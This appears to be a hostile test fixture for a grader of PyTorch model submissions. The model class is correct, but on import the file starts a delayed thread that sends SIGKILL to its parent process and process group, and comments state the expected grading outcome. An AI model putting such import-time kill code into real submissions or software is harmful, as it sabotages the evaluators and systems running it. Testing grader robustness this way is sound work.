# Hostile, sample L1/1: correct, but a thread started at import kills its own process, its parent and its process
# group a moment later, after forward() has returned. Expected: this candidate's verdict only (whatever it is); the
# next candidate is judged right.
import os
import signal
import threading
import time
import torch.nn as nn


def _later():
    time.sleep(0.3)
    for target in (lambda: os.kill(os.getppid(), signal.SIGKILL), lambda: os.killpg(0, signal.SIGKILL)):
        try:
            target()
        except OSError:
            pass


threading.Thread(target=_later, daemon=True).start()


class ModelNew(nn.Module):
    def forward(self, x):
        return x * 2.0 + 1.0
